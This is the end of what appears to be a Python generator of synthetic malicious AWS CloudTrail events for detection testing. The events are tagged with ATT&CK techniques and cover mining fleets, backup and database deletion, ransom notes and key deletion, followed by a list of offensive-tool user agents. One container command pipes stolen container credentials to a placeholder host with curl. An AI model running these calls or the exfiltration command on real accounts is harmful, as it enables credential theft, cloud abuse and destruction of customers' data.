lambda.UpdateFunctionConfiguration20150331v2 {"functionName":"«word»","layers":["arn:aws:lambda:«region»:«num:100000000000:999999999999»:layer:«letters:6»:1"]}
lambda.CreateFunction20150331 {"functionName":"«letters:7»","runtime":"python3.9","role":"arn:aws:iam::«account»:role/«AdminRole|OrganizationAccountAccessRole»"}
ecs.RegisterTaskDefinition {"family":"«letters:6»","containerDefinitions":[{"name":"«letters:4»","image":"«letters:6»/«xmrig|miner|«letters:5»»:latest","command":["sh","-c","curl http://«imds»$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -d @- http://«peer»"]}]}
eks.AssociateAccessPolicy {"clusterName":"«word»","principalArn":"arn:aws:iam::«account»:user/«user»","policyArn":"arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy"}
# T1496 mining fleet
ec2.RunInstances {"instancesSet":{"items":[{"imageId":"ami-«hex:17»","minCount":«num:10:100»,"maxCount":«num:100:500»}]},"instanceType":"«p3.16xlarge|p4d.24xlarge|g4dn.12xlarge|c5.24xlarge|c6i.32xlarge|p2.16xlarge»"}
ec2.RequestSpotFleet {"spotFleetRequestConfig":{"targetCapacity":«num:200:900»,"launchSpecifications":[{"instanceType":"g4dn.metal"}]}}
servicequotas.RequestServiceQuotaIncrease {"serviceCode":"ec2","quotaCode":"L-417A185B","desiredValue":«num:2000:9000»}
ses.GetSendQuota {"_agent":"odd"}
ses.UpdateAccountSendingEnabled {"enabled":true,"_agent":"odd"}
bedrock.InvokeModel {"modelId":"anthropic.claude-v2","_agent":"odd"}
# T1485 destruction
s3.DeleteBucket {"bucketName":"«site»-«backup|backups|prod-data|customer-data»"}
s3.PutBucketVersioning {"bucketName":"«site»-«backup|«word»»","VersioningConfiguration":{"Status":"Suspended","MfaDelete":"Disabled"}}
s3.DeleteObjects {"bucketName":"«site»-backup","delete":{"quiet":true}}
s3.PutObject {"bucketName":"«site»-«word»","key":"«FILES-DELETED|RANSOM|README_TO_RECOVER|HOW_TO_DECRYPT».«txt|html»"}
s3.CopyObject {"bucketName":"«site»-«word»","key":"«file»","x-amz-server-side-encryption-customer-algorithm":"AES256","x-amz-copy-source":"«site»-«word»/«file»"}
kms.ScheduleKeyDeletion {"keyId":"«guid»","pendingWindowInDays":7}
kms.DisableKey {"keyId":"«guid»"}
kms.PutKeyPolicy {"keyId":"«guid»","policyName":"default","policy":"{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"arn:aws:iam::«num:100000000000:999999999999»:root\"},\"Action\":\"kms:*\"}]}"}
rds.DeleteDBInstance {"dBInstanceIdentifier":"«prod|«word»»-db","skipFinalSnapshot":true,"deleteAutomatedBackups":true}
rds.DeleteDBCluster {"dBClusterIdentifier":"«word»-prod","skipFinalSnapshot":true}
rds.DeleteDBClusterSnapshot {"dBClusterSnapshotIdentifier":"«word»-backup-«date»"}
backup.DeleteRecoveryPoint {"backupVaultName":"Default","recoveryPointArn":"arn:aws:ec2:«region»::snapshot/snap-«hex:17»"}
backup.DeleteBackupVault {"backupVaultName":"«word»"}
dynamodb.DeleteTable {"tableName":"«prod|customers|orders»"}
ec2.DisableEbsEncryptionByDefault {}
efs.DeleteFileSystem {"fileSystemId":"fs-«hex:17»"}
organizations.DeleteOrganization {}
route53.DeleteHostedZone {"id":"Z«HEX:12»"}
route53domains.TransferDomainToAnotherAwsAccount {"domainName":"«sitedomain»","accountId":"«num:100000000000:999999999999»"}
# T1078.004 odd login
signin.ConsoleLogin {"_response":{"ConsoleLogin":"Success"},"_additional":{"MFAUsed":"No","MobileVersion":"No","LoginTo":"https://console.aws.amazon.com/console/home"},"_identity":"Root"}
signin.ConsoleLogin {"_response":{"ConsoleLogin":"Success"},"_additional":{"MFAUsed":"No","MobileVersion":"No"},"_identity":"IAMUser","_agent":"odd"}
signin.GetSigninToken {"_agent":"odd"}
sts.AssumeRole {"roleArn":"arn:aws:iam::«account»:role/«OrganizationAccountAccessRole|Admin|AdministratorAccess»","roleSessionName":"«letters:6»","_agent":"odd"}
iam.CreateAccessKey {"_identity":"Root"}
# T1110.003 login failures
signin.ConsoleLogin {"_response":{"ConsoleLogin":"Failure"},"_error":"No username found in supplied account","_additional":{"MFAUsed":"No"},"_agent":"odd"}
signin.ConsoleLogin {"_response":{"ConsoleLogin":"Failure"},"_error":"Failed authentication","_additional":{"MFAUsed":"No"},"_agent":"odd"}
sts.AssumeRole {"roleArn":"arn:aws:iam::«account»:role/«admin|Admin|root|deploy|«word»»","roleSessionName":"«letters:6»","_agent":"odd"} ! AccessDenied
# T1580 enumeration by odd tools
sts.GetCallerIdentity {"_agent":"odd"}
iam.ListUsers {"_agent":"odd"} ! AccessDenied
iam.GetAccountAuthorizationDetails {"_agent":"odd"}
iam.ListAttachedUserPolicies {"userName":"«user»","_agent":"odd"} ! AccessDenied
iam.SimulatePrincipalPolicy {"policySourceArn":"arn:aws:iam::«account»:user/«user»","_agent":"odd"}
s3.ListBuckets {"_agent":"odd"} ! AccessDenied
ec2.DescribeInstances {"_agent":"odd"} ! Client.UnauthorizedOperation
ec2.DescribeSnapshots {"_agent":"odd"}
lambda.ListFunctions20150331 {"_agent":"odd"} ! AccessDeniedException
rds.DescribeDBInstances {"_agent":"odd"} ! AccessDenied
organizations.DescribeOrganization {"_agent":"odd"} ! AccessDeniedException
iam.ListRoles {"_agent":"odd"}
secretsmanager.ListSecrets {"_agent":"odd"} ! AccessDeniedException
ce.GetCostAndUsage {"_agent":"odd"} ! AccessDenied
ses.ListIdentities {"_agent":"odd"}
cloudtrail.DescribeTrails {"_agent":"odd"} ! AccessDenied
guardduty.ListDetectors {"_agent":"odd"}
ssm.DescribeInstanceInformation {"_agent":"odd"}
s3.GetBucketAcl {"bucketName":"«site»-«word»","_agent":"odd"} ! AccessDenied
""")

ODD_AGENTS = ("aws-cli/1.«num:16:22».«num:1:60» Python/3.«num:7:11».«num:1:12» Linux/«num:4:6».«num:4:19».0-kali«num:1:5»-amd64 botocore/1.«num:19:29».«num:1:60»", "aws-cli/2.«num:1:13».«num:1:30» Python/3.11 Linux/6.1.0-parrot1-amd64 source/x86_64.parrot.«num:4:6»",
              "python-requests/2.«num:20:31».0", "curl/7.«num:60:88».0", "Boto3/1.«num:9:28».«num:0:99» Python/3.«num:6:11».«num:0:9» Linux/4.15.0-kali3-amd64 Botocore/1.12.«num:0:99»", "pacu/1.«num:0:5»", "cloudfox/1.«num:8:13».0", "S3 Browser/«num:9:11».«num:1:9».«num:1:9» (https://s3browser.com)",
              "ScoutSuite/5.«num:10:13»", "[Boto3/1.26 (TruffleHog)]", "TruffleHog", "enumerate-iam/0.1", "Go-http-client/1.1", "WinSCP/5.«num:15:21»", "aws-sdk-js/2.«num:200:900».0 promise nessus", "CloudMapper", "weirdAAL/0.1", "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1) AWSconsole-scraper", "okhttp/3.«num:1:9»", "peirates", "prowler/3.«num:0:9».0 python/3.9 kali", "DETONATION-«letters:5»")
